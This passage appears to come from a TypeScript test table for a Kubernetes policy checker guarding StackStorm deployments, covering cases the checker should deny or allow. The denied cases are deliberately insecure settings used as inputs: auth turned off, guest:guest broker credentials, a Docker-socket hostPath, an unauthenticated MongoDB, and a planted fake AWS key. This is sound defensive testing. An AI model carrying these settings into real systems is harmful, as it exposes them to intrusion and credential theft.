        spec: { rules: [{ host: 'mq.example.com', http: { paths: [{ path: '/', pathType: 'Prefix', backend: { service: { name: 'rabbitmq', port: { number: 15672 } } } }] } }] },
      },
    ],
    expected: deny('ST2-EXP-008', { field: 'spec', message: 'component=rabbitmq' }),
  },
  {
    name: 'a Gateway TCPRoute to a per-pod MongoDB Service (selected by pod-name) is denied',
    rule: 'ST2-EXP-008',
    environment: 'production',
    resources: () => [
      workload('mongodb', { kind: 'StatefulSet', replicas: 3, container: { image: 'mongo:4.4.29' } }),
      pdb('mongodb'),
      { apiVersion: 'v1', kind: 'Service', metadata: meta('mongo-0'), spec: { selector: { 'statefulset.kubernetes.io/pod-name': 'mongodb-0' }, ports: [{ port: 27017 }] } },
      { apiVersion: 'gateway.networking.k8s.io/v1alpha2', kind: 'TCPRoute', metadata: meta('mongo'), spec: { rules: [{ backendRefs: [{ name: 'mongo-0', port: 27017 }] }] } },
    ],
    expected: deny('ST2-EXP-008', { message: 'component=mongodb' }),
  },
  {
    name: 'an Ingress to st2web (TLS) routes no store: ST2-EXP-008 is silent',
    rule: 'ST2-EXP-008',
    environment: 'production',
    resources: () => [
      ...haWorkload('st2web', 2, { container: { image: 'stackstorm/st2web:3.8.1' } }),
      service('st2web', 'st2web'),
      {
        apiVersion: 'networking.k8s.io/v1',
        kind: 'Ingress',
        metadata: meta('st2web'),
        // The Service's port (ST2-OPS-050 denies a backend port the Service lacks).
        spec: { tls: [{ hosts: ['st2.example.com'], secretName: 'tls' }], rules: [{ host: 'st2.example.com', http: { paths: [{ path: '/', pathType: 'Prefix', backend: { service: { name: 'st2web', port: { number: 80 } } } }] } }] },
      },
    ],
    expected: 'allowed',
  },
  {
    name: 'a ServiceExport of the MongoDB Service (every cluster of the set reaches it) is denied',
    rule: 'ST2-EXP-009',
    environment: 'production',
    resources: () => [
      workload('mongodb', { kind: 'StatefulSet', replicas: 3, container: { image: 'mongo:4.4.29', args: ['--replSet', 'rs0', '--keyFile', '/etc/mongo/key'] } }),
      pdb('mongodb'),
      service('mongodb', 'mongodb'),
      { apiVersion: 'multicluster.x-k8s.io/v1alpha1', kind: 'ServiceExport', metadata: meta('mongodb') },
    ],
    expected: deny('ST2-EXP-009', { field: 'metadata.name', message: 'component=mongodb' }),
  },
  {
    name: 'a ServiceExport of st2api exports no store: ST2-EXP-009 is silent',
    rule: 'ST2-EXP-009',
    environment: 'production',
    resources: () => [...haWorkload('st2api', 2), service('st2api', 'st2api'), { apiVersion: 'multicluster.x-k8s.io/v1alpha1', kind: 'ServiceExport', metadata: meta('st2api') }],
    expected: 'allowed',
  },
  {
    name: 'mongo-express behind an Ingress is denied',
    rule: 'ST2-EXP-010',
    environment: 'production',
    resources: () => [
      workload('mongo-express', { container: { image: 'mongo-express:1.0.2' } }),
      service('mongo-express', 'mongo-express'),
      { apiVersion: 'networking.k8s.io/v1', kind: 'Ingress', metadata: meta('db'), spec: { tls: [{ hosts: ['db.example.com'], secretName: 'tls' }], rules: [{ host: 'db.example.com', http: { paths: [{ path: '/', pathType: 'Prefix', backend: { service: { name: 'mongo-express', port: { number: 80 } } } }] } }] } },
    ],
    expected: deny('ST2-EXP-010', { field: 'spec', message: 'component=mongodb' }),
  },
  {
    name: 'mongo-express on a ClusterIP Service (kubectl port-forward) is allowed',
    rule: 'ST2-EXP-010',
    environment: 'production',
    resources: () => [workload('mongo-express', { container: { image: 'mongo-express:1.0.2' } }), service('mongo-express', 'mongo-express')],
    expected: 'allowed',
  },
  {
    name: 'an st2web Ingress snippet adding an St2-Api-Key header is denied',
    rule: 'ST2-EXP-011',
    environment: 'production',
    resources: () => [
      ...haWorkload('st2web', 2, { container: { image: 'stackstorm/st2web:3.8.1' } }),
      service('st2web', 'st2web'),
      {
        apiVersion: 'networking.k8s.io/v1',
        kind: 'Ingress',
        metadata: meta('st2web', { annotations: { 'nginx.ingress.kubernetes.io/configuration-snippet': 'proxy_set_header St2-Api-Key "made-up-key";' } }),
        spec: { tls: [{ hosts: ['st2.example.com'], secretName: 'tls' }], rules: [{ host: 'st2.example.com', http: { paths: [{ path: '/', pathType: 'Prefix', backend: { service: { name: 'st2web', port: { number: 443 } } } }] } }] },
      },
    ],
    expected: deny('ST2-EXP-011', { message: 'header=st2-api-key' }),
  },
  {
    name: 'an st2web Ingress snippet adding security response headers is allowed',
    rule: 'ST2-EXP-011',
    environment: 'production',
    resources: () => [
      ...haWorkload('st2web', 2, { container: { image: 'stackstorm/st2web:3.8.1' } }),
      service('st2web', 'st2web'),
      {
        apiVersion: 'networking.k8s.io/v1',
        kind: 'Ingress',
        metadata: meta('st2web', { annotations: { 'nginx.ingress.kubernetes.io/configuration-snippet': 'more_set_headers "X-Frame-Options: DENY";' } }),
        spec: { tls: [{ hosts: ['st2.example.com'], secretName: 'tls' }], rules: [{ host: 'st2.example.com', http: { paths: [{ path: '/', pathType: 'Prefix', backend: { service: { name: 'st2web', port: { number: 80 } } } }] } }] },
      },
    ],
    expected: 'allowed',
  },
  {
    name: 'an st2api LoadBalancer open to two halves of the internet is denied',
    rule: 'ST2-EXP-007',
    environment: 'production',
    resources: () => [
      ...haWorkload('st2api', 2),
      { ...service('st2api', 'st2api', 'LoadBalancer'), spec: { type: 'LoadBalancer', selector: { app: 'st2api' }, ports: [{ port: 9101 }], loadBalancerSourceRanges: ['0.0.0.0/1', '128.0.0.0/1'] } },
    ],
    expected: deny('ST2-EXP-007', { message: 'service=st2api' }),
  },
  {
    name: 'an st2web LoadBalancer restricted by the source-ranges annotation is allowed',
    rule: 'ST2-EXP-007',
    environment: 'production',
    resources: () => [
      ...haWorkload('st2web', 2, { container: { image: 'stackstorm/st2web:3.8.1' } }),
      {
        ...service('st2web', 'st2web', 'LoadBalancer'),
        metadata: meta('st2web', { annotations: { 'service.beta.kubernetes.io/load-balancer-source-ranges': '10.0.0.0/8, 192.168.0.0/16' } }),
        spec: { type: 'LoadBalancer', selector: { app: 'st2web' }, ports: [{ port: 443 }] },
      },
    ],
    expected: 'allowed',
  },
  {
    name: 'an "internal" AWS LoadBalancer whose scheme annotation says internet-facing is denied',
    rule: 'ST2-EXP-007',
    environment: 'production',
    resources: () => [
      ...haWorkload('st2web', 2, { container: { image: 'stackstorm/st2web:3.8.1' } }),
      {
        ...service('st2web', 'st2web', 'LoadBalancer'),
        metadata: meta('st2web', {
          annotations: { 'service.beta.kubernetes.io/aws-load-balancer-internal': 'true', 'service.beta.kubernetes.io/aws-load-balancer-scheme': 'internet-facing' },
        }),
        spec: { type: 'LoadBalancer', selector: { app: 'st2web' }, ports: [{ port: 443 }] },
      },
    ],
    expected: deny('ST2-EXP-007', { message: 'service=st2web' }),
  },
  ...rows('ST2-HRD-005', [
    ['production', 'st2.user.conf switching [auth] off is denied in production', () => [configMap('st2-config', { 'st2.docker.conf': '[auth]\nenable = True\n', 'st2.user.conf': '[api]\nallow_origin = *\n[auth]\nenable = False\n' })], deny('ST2-HRD-005', { field: 'data.st2.user.conf', message: 'section=auth' })],
    ['dev', 'st2.user.conf switching [rbac] off is a warning in dev', () => [configMap('st2-config', { 'st2.user.conf': '[rbac]\nenable = off\n' })], { rule: 'ST2-HRD-005', severity: 'warn', message: 'section=rbac' }],
    ['production', 'st2 config with auth and RBAC on (and another section turned off) is allowed', () => [configMap('st2-config', { 'st2.user.conf': '[auth]\nenable = True\n[rbac]\nenable = true\n[metrics]\nenable = False\n' })], 'allowed'],
    ['production', 'st2 auth switched off in a gzipped config an init container unpacks is denied', () => [{ apiVersion: 'v1', kind: 'ConfigMap', metadata: meta('st2-gz'), binaryData: { 'zz.conf.gz': gzipSync(Buffer.from('[AUTH]\r\nenable = "False"\r\n')).toString('base64') } }], deny('ST2-HRD-005', { field: 'binaryData.zz.conf.gz', message: 'section=auth' })],
  ]),
  ...rows('ST2-HRD-008', [
    ['staging', 'st2.user.conf, the last file st2garbagecollector reads, turning [log] mask_secrets off is denied', () => [...maskedService('[log]\nmask_secrets = False\n')], deny('ST2-HRD-008', { message: 'section=log' })],
    ['production', 'mask_secrets written out as True (st2\'s default) is allowed', () => [...maskedService('[api]\nmask_secrets = True\n[log]\nmask_secrets = yes\n')], 'allowed'],
  ]),
  // --- ST2-HRD-009/010: st2 config as oslo.config 1.12 and st2 use it ----------------------------
  ...rows('ST2-HRD-009', [
    ['production', 'an st2 config file starting with a UTF-8 BOM (oslo.config refuses it) is denied', () => [...maskedService('\ufeff[api]\nallow_origin = https://st2.example.com\n')], deny('ST2-HRD-009', { message: "No ':' or '='" })],
    ['staging', 'an indented first line (no value to continue) is denied in staging', () => [...maskedService('  [log]\n  mask_secrets = True\n')], deny('ST2-HRD-009', { message: 'Unexpected continuation line' })],
    ['dev', 'a database port with an inline comment (not an integer) warns in dev', () => [...maskedService('[database]\nport = 27017  # mongo\n')], warn('ST2-HRD-009')],
    ['production', 'CRLF, tabs inside values, `key: value`, duplicate sections and comment lines are what oslo reads: allowed', () => [...maskedService('# ops\r\n[database]\r\nport: 27017\r\n\r\n[log]\r\n; keep\r\nmask_secrets\t=\tTrue\r\n[database]\r\nconnection_timeout = 3000\r\n')], 'allowed'],
  ]),
  ...rows('ST2-HRD-010', [
    ['production', '[database] db_name other than the bundle\'s database is denied', () => [...maskedService('[database]\ndb_name = st2_v2\n')], deny('ST2-HRD-010', { message: 'option=database.db_name' })],
    ['production', '[database] db_name written as st2\'s default is allowed', () => [...maskedService('[database]\ndb_name = st2\n')], 'allowed'],
  ]),
  // --- ST2-HRD-011/012: how st2auth checks a login ------------------------------------------------
  ...rows('ST2-HRD-011', [
    ['production', 'st2auth in [auth] mode = proxy is denied', () => authService('[auth]\nmode = proxy\n'), deny('ST2-HRD-011', { message: 'problem=proxy-mode-no-password-check' })],
    ['production', 'st2auth given --auth-mode=proxy on its command line is denied', () => authService('[auth]\nmode = standalone\n', ['--auth-mode=proxy']), deny('ST2-HRD-011', { message: 'file=(command line)' })],
    ['production', 'a mode st2auth refuses (Proxy) is denied', () => authService('[auth]\nmode = Proxy\n'), deny('ST2-HRD-011', { message: 'problem=unknown-mode' })],
    ['dev', 'proxy mode in dev warns', () => authService('[auth]\nmode = proxy\n'), warn('ST2-HRD-011')],
    ['production', 'st2auth in standalone mode is allowed', () => authService('[auth]\nmode = standalone\nbackend = flat_file\n'), 'allowed'],
  ]),
  ...rows('ST2-HRD-012', [
    ['production', 'the LDAP backend on port 389 without use_ssl or use_tls is denied', () => authService('[auth]\nbackend = ldap\nbackend_kwargs = {"host": "ldap.example.net", "port": 389, "use_ssl": false}\n'), deny('ST2-HRD-012', { message: 'problem=ldap-without-tls' })],
    ['production', 'the LDAP backend over LDAPS is allowed', () => authService('[auth]\nbackend = ldap\nbackend_kwargs = {"host": "ldap.example.net", "port": 636, "use_ssl": true}\n'), 'allowed'],
  ]),
  // --- ST2-HRD-013: st2's own RBAC ---------------------------------------------------------------
  ...rows('ST2-HRD-013', [
    ['production', 'an st2 RBAC mapping of Domain Users to admin is denied', () => [configMap('st2-rbac-mappings', { 'all.yaml': '---\ngroup: "CN=Domain Users,CN=Users,DC=example,DC=com"\nenabled: true\nroles:\n  - admin\n' })], deny('ST2-HRD-013', { message: 'problem=admin-role-for-a-broad-group' })],
    ['production', 'a custom st2 role granting pack_install globally is denied', () => [configMap('st2-rbac-roles', { 'dev.yaml': '---\nname: dev\nenabled: true\npermission_grants:\n  - permission_types: [pack_install]\n' })], deny('ST2-HRD-013', { message: 'problem=custom-role-runs-code' })],
  ]),
  {
    name: 'admin for a dedicated group and a scoped role for Domain Users are allowed',
    rule: 'ST2-HRD-013',
    environment: 'production',
    resources: () => [
      configMap('st2-rbac-roles', { 'ops.yaml': '---\nname: ops\nenabled: true\npermission_grants:\n  - resource_uid: "pack:examples"\n    permission_types: [action_execute]\n' }),
      configMap('st2-rbac-mappings', { 'a.yaml': '---\ngroup: "CN=st2-admins,OU=groups,DC=example,DC=com"\nroles: [admin]\n', 'b.yaml': '---\ngroup: "CN=Domain Users,DC=example,DC=com"\nroles: [ops, observer]\n' }),
    ],
    expected: 'allowed',
  },
  // --- ST2-HRD-014: where st2 connects ------------------------------------------------------------
  {
    name: '[messaging] ssl = True against a RabbitMQ without a TLS listener is denied',
    rule: 'ST2-HRD-014',
    environment: 'production',
    resources: () => [
      ...authService('[messaging]\nurl = amqp://st2:{{ .pw }}@rabbitmq:5672\nssl = True\n[database]\nhost = mongodb://mongodb:27017/?replicaSet=rs0\nusername = st2\n'),
      configMap('rabbitmq-config', { 'rabbitmq.conf': 'listeners.tcp.default = 5672\n' }),
      ...haWorkload('rabbitmq', 3, { kind: 'StatefulSet', container: { image: 'rabbitmq:3.12.14-management' } }),
    ],
    expected: deny('ST2-HRD-014', { message: 'problem=tls-without-listener' }),
  },
  {
    name: 'a service whose [messaging] url is written empty (kombu falls back to localhost) is denied',
    rule: 'ST2-HRD-014',
    environment: 'production',
    resources: () => authService('[messaging]\nurl =\n[database]\nhost = mongodb://mongodb:27017/\nusername = st2\n'),
    expected: deny('ST2-HRD-014', { message: 'problem=messaging-url-empty' }),
  },
  {
    name: 'TLS to a RabbitMQ with listeners.ssl configured is allowed',
    rule: 'ST2-HRD-014',
    environment: 'production',
    resources: () => [
      ...authService('[messaging]\nurl = amqps://st2:{{ .pw }}@rabbitmq:5671\n[database]\nhost = mongodb://mongodb:27017/\nusername = st2\n'),
      configMap('rabbitmq-config', { 'rabbitmq.conf': 'listeners.ssl.default = 5671\n' }),
    ],
    expected: 'allowed',
  },
  ...rows('ST2-HRD-014', [
    ['production', '[messaging] cluster_urls (which st2 prefers over url) on a vhost nothing creates is denied', () => [...authService('[messaging]\nurl = amqp://st2:{{ .pw }}@rabbitmq:5672\ncluster_urls = amqp://rabbitmq:5672/isolated\n[database]\nhost = mongodb://mongodb:27017/\nusername = st2\n'), ...haWorkload('rabbitmq', 3, { kind: 'StatefulSet', container: { image: 'rabbitmq:3.12.14-management' } })], deny('ST2-HRD-014', { message: 'problem=vhost-undefined' })],
    ['production', 'st2api started without the file it mounts that holds the bus and the database login (the image\'s 127.0.0.1 bus, no login) is denied', () => [...authService(STORES), ...st2apiReading(['--config-file=/etc/st2/st2.conf'])], deny('ST2-HRD-014', { message: '-unset)' })],
    ['production', 'st2api reading the file it mounts that holds the bus and the database login is allowed', () => [...authService(STORES), ...st2apiReading(['--config-file=/etc/st2/st2.conf', '--config-file=/etc/st2/st2.secrets.conf'])], 'allowed'],
    ['production', '[messaging] cluster_urls listing the default vhost with credentials is allowed', () => authService('[messaging]\nurl = amqp://st2:{{ .pw }}@rabbitmq:5672\ncluster_urls = amqp://st2:{{ .pw }}@rabbitmq:5672, amqp://st2:{{ .pw }}@rabbitmq:5672/\n[database]\nhost = mongodb://mongodb:27017/\nusername = st2\n'), 'allowed'],
  ]),
  // --- ST2-HRD-019: writes unacknowledged, reads from secondaries -----------------------------------
  ...rows('ST2-HRD-019', [
    ['production', 'w=0 in st2\'s MongoDB URI (unacknowledged writes) is denied in production', () => authService('[database]\nhost = mongodb://mongodb:27017/?replicaSet=rs0&w=0\nusername = st2\n'), deny('ST2-HRD-019', { message: 'problem=write-unacknowledged' })],
    ['production', 'w=majority with a 5 s write timeout and primaryPreferred reads are allowed', () => authService('[database]\nhost = mongodb://mongodb:27017/?replicaSet=rs0&w=majority&wtimeoutMS=5000&readPreference=primaryPreferred\nusername = st2\n'), 'allowed'],
  ]),
  // --- ST2-OPS-050: an Ingress backend the Service cannot serve -------------------------------------
  ...rows('ST2-OPS-050', [
    ['production', 'an Ingress backend on a port its Service does not have is denied', () => [st2webService(), st2webIngress({ number: 80 }, 'HTTPS')], deny('ST2-OPS-050')],
    ['production', "an nginx Ingress without backend-protocol HTTPS to st2web's TLS port is denied", () => [st2webService(), st2webIngress({ number: 443 }, undefined)], deny('ST2-OPS-050')],
    ['production', "an nginx Ingress speaking HTTPS to st2web's port by name is allowed", () => [st2webService(), st2webIngress({ name: 'https' }, 'HTTPS')], 'allowed'],
  ]),

  ...rows('ST2-OPS-036', [
    ['production', 'two sensor containers whose hash ranges leave a gap are denied', () => [...hashSensor('a', 'MIN..1000'), ...hashSensor('b', '2000..MAX')], deny('ST2-OPS-036')],
    ['production', 'two sensor containers whose hash ranges meet end to end are allowed', () => [...hashSensor('a', 'min..2000'), ...hashSensor('b', '2000..max')], 'allowed'],
  ]),
  // --- ST2-SEC-013/014: credentials in git -----------------------------------------------------------
  ...rows('ST2-SEC-013', [
    ['production', 'a literal password in an ExternalSecret template is denied', () => [{ apiVersion: 'external-secrets.io/v1', kind: 'ExternalSecret', metadata: meta('st2-auth'), spec: { secretStoreRef: { kind: 'ClusterSecretStore', name: 's' }, target: { name: 'st2-auth', template: { data: { username: '{{ .u }}', password: 'k3Vq-9LmZ-x2Rt' } } }, data: [{ secretKey: 'u', remoteRef: { key: 'a', property: 'u' } }] } }], deny('ST2-SEC-013', { message: 'kind=template-literal' })],
    ['production', 'an AWS access key in a ConfigMap is denied', () => [configMap('pack-configs', { 'aws.yaml': `aws_access_key_id: AKIA${'ZQ4X7M2P9KLR3TWN'}\n` })], deny('ST2-SEC-013', { message: 'aws-access-key' })],
  ]),
  {
    name: 'store placeholders in a template and datastore references in a pack config are allowed',
    rule: 'ST2-SEC-013',
    environment: 'production',
    resources: () => [
      configMap('pack-configs', { 'aws.yaml': 'aws_secret_access_key: "{{ st2kv.system.aws | decrypt_kv }}"\n' }),
      { apiVersion: 'external-secrets.io/v1', kind: 'ExternalSecret', metadata: meta('st2-auth'), spec: { secretStoreRef: { kind: 'ClusterSecretStore', name: 's' }, target: { name: 'st2-auth', template: { data: { password: '{{ .password | trim }}' } } }, data: [{ secretKey: 'password', remoteRef: { key: 'a', property: 'p' } }] } },
    ],
    expected: 'allowed',
  },
  ...rows('ST2-SEC-014', [
    ['production', 'a weak password in a Secret is denied, whatever its case and blanks', () => [secret('db', { stringData: { 'db-password': ' PassWord1 ' } })], deny('ST2-SEC-014', { message: 'key=db-password' })],
    ['production', 'a long random password in a Secret is allowed', () => [secret('db', { stringData: { 'db-password': 'vR7q-Lm2x9Tz4Kw8Yp3N' } })], 'allowed'],
  ]),
  // --- ST2-REP-016: store settings that stop the store serving ------------------------------------
  ...rows('ST2-REP-016', [
    ['production', 'mongod bound to localhost only is denied', () => haWorkload('mongodb', 3, { kind: 'StatefulSet', container: { image: 'mongo:4.4.29', args: ['--replSet', 'rs0', '--keyFile', '/etc/mongo/key', '--bind_ip', 'localhost'] } }), deny('ST2-REP-016', { message: 'setting=bind_loopback' })],
    ['production', 'mongod with the entrypoint\'s own bind (all interfaces) and a modest cache is allowed', () => haWorkload('mongodb', 3, { kind: 'StatefulSet', container: { image: 'mongo:4.4.29', args: ['--replSet', 'rs0', '--keyFile', '/etc/mongo/key', '--wiredTigerCacheSizeGB', '0.25'] } }), 'allowed'],
  ]),
  ...rows('ST2-HRD-007', [
    ['staging', 'MongoDB run without --keyFile, --auth or a root user is denied', () => haWorkload('mongodb', 3, { kind: 'StatefulSet', container: { image: 'mongo:4.4.29', args: ['--replSet', 'rs0', '--bind_ip_all'] } }), deny('ST2-HRD-007', { message: 'problem=no-access-control' })],
    ['production', 'MongoDB with a keyFile is allowed', () => haWorkload('mongodb', 3, { kind: 'StatefulSet', container: { image: 'mongo:4.4.29', args: ['--replSet=rs0', '--keyFile=/k/key.txt'] } }), 'allowed'],
  ]),
  ...rows('ST2-SEC-008', [
    ['production', "st2 connecting to RabbitMQ as guest:guest is denied", () => [configMap('st2-config', { 'st2.user.conf': '[messaging]\nurl = amqp://guest:guest@rabbitmq:5672/\n' })], deny('ST2-SEC-008', { message: 'problem=guest-credentials' })],
    ['production', "RabbitMQ's loopback opened with its own default user is allowed", () => [configMap('rabbitmq-config', { 'rabbitmq.conf': 'loopback_users.guest = false\ndefault_user = st2\n' })], 'allowed'],
    ['production', "RabbitMQ's loopback opened with no default user (guest/guest) is denied", () => [configMap('rabbitmq-config', { 'rabbitmq.conf': 'loopback_users = none\n' })], deny('ST2-SEC-008', { message: 'problem=loopback-open-guest-kept' })],
  ]),
  ...rows('ST2-HRD-006', [
    ['production', 'a Namespace whose Pod Security enforcement is lowered to privileged is denied', () => [{ apiVersion: 'v1', kind: 'Namespace', metadata: { name: NAMESPACE, labels: { 'pod-security.kubernetes.io/enforce': 'privileged' } } }], deny('ST2-HRD-006', { field: 'metadata.labels.pod-security.kubernetes.io/enforce', message: 'level=privileged' })],
    ['staging', 'a hostPath volume (the Docker socket) is denied in staging', () => [workload('st2actionrunner', { pod: { volumes: [{ name: 'sock', hostPath: { path: '/var/run/docker.sock' } }] } })], deny('ST2-HRD-006', { field: 'spec.template.spec.volumes.0.hostPath', message: 'path=/var/run/docker.sock' })],
    ['production', 'a Namespace enforcing baseline is allowed', () => [{ apiVersion: 'v1', kind: 'Namespace', metadata: { name: NAMESPACE, labels: { 'pod-security.kubernetes.io/enforce': 'baseline' } } }], 'allowed'],
  ]),
  ...rows('ST2-HRD-004', [
    ['production', 'two st2api replicas without a PodDisruptionBudget are denied in production', () => [workload('st2api', { replicas: 2 })], deny('ST2-HRD-004', { field: 'metadata.name', message: 'component=st2api' })],
    ['production', 'two st2api replicas with a matching PodDisruptionBudget are allowed', () => [workload('st2api', { replicas: 2 }), pdb('st2api')], 'allowed'],
  ]),
  // --- ST2-OPS-*: what the cluster does with the manifests (the fifth red team) ---
  ...rows('ST2-OPS-001', [
    ['production', 'an Argo CD Application syncing into the st2 namespace is denied', () => [{ apiVersion: 'argoproj.io/v1alpha1', kind: 'Application', metadata: { name: 'extras', namespace: 'argocd' }, spec: { source: { repoURL: 'https://git.example/x.git', path: 'overlays/dev' }, destination: { namespace: 'st2-prod' } } }], deny('ST2-OPS-001', { field: 'spec.destination.namespace', message: 'namespace=st2-prod' })],
    // What it syncs cannot be judged wherever it points (the seventh red team's Fleet GitRepo).
    ['production', 'an Argo CD Application for another namespace is denied too', () => [{ apiVersion: 'argoproj.io/v1alpha1', kind: 'Application', metadata: meta('monitoring'), spec: { source: { repoURL: 'https://charts.example', chart: 'exporter' }, destination: { namespace: 'monitoring' } } }], deny('ST2-OPS-001', { field: 'kind', message: 'kind=Application' })],
    ['production', 'a Kyverno generate rule with inline data is judged as the object it makes, and a NetworkPolicy is allowed', () => [kyvernoGenerate({ apiVersion: 'networking.k8s.io/v1', kind: 'NetworkPolicy', name: 'default-deny', namespace: '{{request.object.metadata.name}}', data: { spec: { podSelector: {}, policyTypes: ['Ingress'] } } })], 'allowed'],
  ]),
  {
    name: 'a Kyverno generate rule making a NodePort Service is denied as a NodePort, at the rule',
    rule: 'ST2-EXP-002',
    environment: 'production',
    resources: () => [kyvernoGenerate({ apiVersion: 'v1', kind: 'Service', name: 'db', namespace: NAMESPACE, data: { spec: { type: 'NodePort', selector: { app: 'mongodb' }, ports: [{ port: 27017 }] } } })],
    expected: deny('ST2-EXP-002', { field: 'spec.rules.0.generate.data.spec.type', message: 'embedded=Service db' }),
  },
  {
    name: 'a Crossplane Object embedding a LoadBalancer for MongoDB is denied at its manifest',
    rule: 'ST2-EXP-006',
    environment: 'production',
    resources: () => [
      workload('mongodb', { kind: 'StatefulSet', replicas: 3 }),
      { apiVersion: 'kubernetes.crossplane.io/v1alpha2', kind: 'Object', metadata: { name: 'db-edge' }, spec: { forProvider: { manifest: { apiVersion: 'v1', kind: 'Service', metadata: { name: 'db-edge', namespace: NAMESPACE }, spec: { type: 'LoadBalancer', selector: { app: 'mongodb' }, ports: [{ port: 27017 }] } } } } },
    ],
    expected: deny('ST2-EXP-006', { field: 'spec.forProvider.manifest.spec.type' }),
  },
  ...rows('ST2-OPS-015', [
    ['dev', 'a ConfigMap in argocd is denied, even in dev', () => [{ apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'argocd-rbac-cm', namespace: 'argocd' }, data: { 'policy.default': 'role:admin' } }], deny('ST2-OPS-015', { field: 'metadata.namespace', message: 'namespace=argocd' })],
    ['production', "a ConfigMap in an st2 namespace of the policy's map is allowed", () => [{ apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'notes', namespace: 'st2-prod' }, data: { a: 'b' } }], 'allowed'],
  ]),
  ...rows('ST2-OPS-016', [
    ['production', 'a CronJob running kubectl scale on st2scheduler is denied', () => [kubectlCron(['kubectl', 'scale', 'deployment/st2scheduler', '--replicas=0'])], deny('ST2-OPS-016', { field: 'spec.jobTemplate.spec.template.spec.containers.0', message: 'verb=scale' })],
    ['production', 'a CronJob deleting finished Jobs is allowed', () => [kubectlCron(['kubectl', 'delete', 'jobs', '-l', 'app=st2-register-content', '--field-selector', 'status.successful=1'])], 'allowed'],
  ]),
  ...rows('ST2-OPS-017', [
    ['production', 'the timers engine under a new name is denied in production', () => [workload('st2timersengine', { name: 'st2-timers', annotations: {} })], deny('ST2-OPS-017', { field: 'metadata.name', message: 'canonical=st2timersengine' })],
    ['staging', 'the timers engine under a new name is allowed in staging (it prunes)', () => [workload('st2timersengine', { name: 'st2-timers', annotations: {} })], 'allowed'],
  ]),
  ...rows('ST2-OPS-002', [
    ['production', 'a MutatingWebhookConfiguration is denied', () => [{ apiVersion: 'admissionregistration.k8s.io/v1', kind: 'MutatingWebhookConfiguration', metadata: { name: 'tuner' }, webhooks: [] }], deny('ST2-OPS-002', { field: 'kind' })],
    ['production', 'a Kyverno policy that only validates is allowed', () => [{ apiVersion: 'kyverno.io/v1', kind: 'ClusterPolicy', metadata: { name: 'labels' }, spec: { validationFailureAction: 'Audit', rules: [{ name: 'team', match: { any: [{ resources: { kinds: ['Pod'] } }] }, validate: { message: 'label', pattern: { metadata: { labels: { team: '?*' } } } } }] } }], 'allowed'],
  ]),
  ...rows('ST2-OPS-003', [
    ['staging', 'a Deployment made an Argo CD hook (Skip) is denied', () => [workload('st2notifier', { annotations: { 'argocd.argoproj.io/hook': 'Skip' } })], deny('ST2-OPS-003', { field: 'metadata.annotations.argocd.argoproj.io/hook', message: 'hook=Skip' })],
    ['production', 'a hook Job is allowed', () => [{ apiVersion: 'batch/v1', kind: 'Job', metadata: meta('register', { annotations: { 'argocd.argoproj.io/hook': 'PostSync' } }), spec: { template: { spec: { restartPolicy: 'Never', containers: [{ name: 'r', image: 'busybox:1.36.1', command: ['true'], resources: { limits: { cpu: '100m', memory: '64Mi' } } }] } } } }], 'allowed'],
    ['production', "st2's Namespace force-replaced at every sync is denied", () => [...haWorkload('st2api'), { apiVersion: 'v1', kind: 'Namespace', metadata: { name: NAMESPACE, labels: { 'pod-security.kubernetes.io/enforce': 'baseline' }, annotations: { 'argocd.argoproj.io/sync-options': 'Force=true,Replace=true' } } }], deny('ST2-OPS-003', { field: 'metadata.annotations.argocd.argoproj.io/sync-options', message: 'kind=Namespace' })],
    ['production', "st2's Namespace applied server-side without pruning is allowed", () => [...haWorkload('st2api'), { apiVersion: 'v1', kind: 'Namespace', metadata: { name: NAMESPACE, labels: { 'pod-security.kubernetes.io/enforce': 'baseline' }, annotations: { 'argocd.argoproj.io/sync-options': 'ServerSideApply=true,Prune=false' } } }], 'allowed'],
  ]),
  ...rows('ST2-OPS-004', [
    ['production', 'an st2web Ingress without TLS is denied', () => [...haWorkload('st2web'), service('st2web', 'st2web'), { apiVersion: 'networking.k8s.io/v1', kind: 'Ingress', metadata: meta('st2web'), spec: { rules: [{ host: 'st2.example.test', http: { paths: [{ path: '/', pathType: 'Prefix', backend: { service: { name: 'st2web', port: { number: 80 } } } }] } }] } }], deny('ST2-OPS-004', { field: 'spec.rules.0', message: 'host=st2.example.test' })],
    ['production', 'an st2web Ingress with a wildcard TLS host is allowed', () => [...haWorkload('st2web'), service('st2web', 'st2web'), { apiVersion: 'networking.k8s.io/v1', kind: 'Ingress', metadata: meta('st2web'), spec: { tls: [{ hosts: ['*.example.test'], secretName: 'wild' }], rules: [{ host: 'st2.example.test', http: { paths: [{ path: '/', pathType: 'Prefix', backend: { service: { name: 'st2web', port: { number: 80 } } } }] } }] } }], 'allowed'],
  ]),
  {
    name: 'st2api rolling out with maxUnavailable 100% is denied in production',
    rule: 'ST2-OPS-005',
    environment: 'production',
    resources: () => {
      const [w, p] = haWorkload('st2api', 3);
      const spec = (w?.['spec'] ?? {}) as Record<string, unknown>;
      spec['strategy'] = { type: 'RollingUpdate', rollingUpdate: { maxUnavailable: '100%', maxSurge: 0 } };
      return [w ?? {}, p ?? {}];
    },
    expected: deny('ST2-OPS-005', { field: 'spec.strategy.rollingUpdate.maxUnavailable', message: 'how=rollout' }),
  },
  {
    name: 'st2api rolling out one pod at a time is allowed',
    rule: 'ST2-OPS-005',
    environment: 'production',
    resources: () => {
      const [w, p] = haWorkload('st2api', 3);
      const spec = (w?.['spec'] ?? {}) as Record<string, unknown>;
      spec['strategy'] = { type: 'RollingUpdate', rollingUpdate: { maxUnavailable: 1, maxSurge: 1 } };
      return [w ?? {}, p ?? {}];
    },
    expected: 'allowed',
  },
  {
    name: 'a RoleBinding letting every authenticated user read Secrets is denied',
    rule: 'ST2-OPS-006',
    environment: 'production',
    resources: () => [
      { apiVersion: 'rbac.authorization.k8s.io/v1', kind: 'Role', metadata: meta('reader'), rules: [{ apiGroups: [''], resources: ['secrets'], verbs: ['get'] }] },
      { apiVersion: 'rbac.authorization.k8s.io/v1', kind: 'RoleBinding', metadata: meta('reader'), roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'Role', name: 'reader' }, subjects: [{ kind: 'Group', name: 'system:authenticated' }] },
    ],
    expected: deny('ST2-OPS-006', { field: 'subjects.0', message: 'subject=system:authenticated' }),
  },
  {
    name: 'the view ClusterRole for a named group is allowed',
    rule: 'ST2-OPS-006',
    environment: 'production',
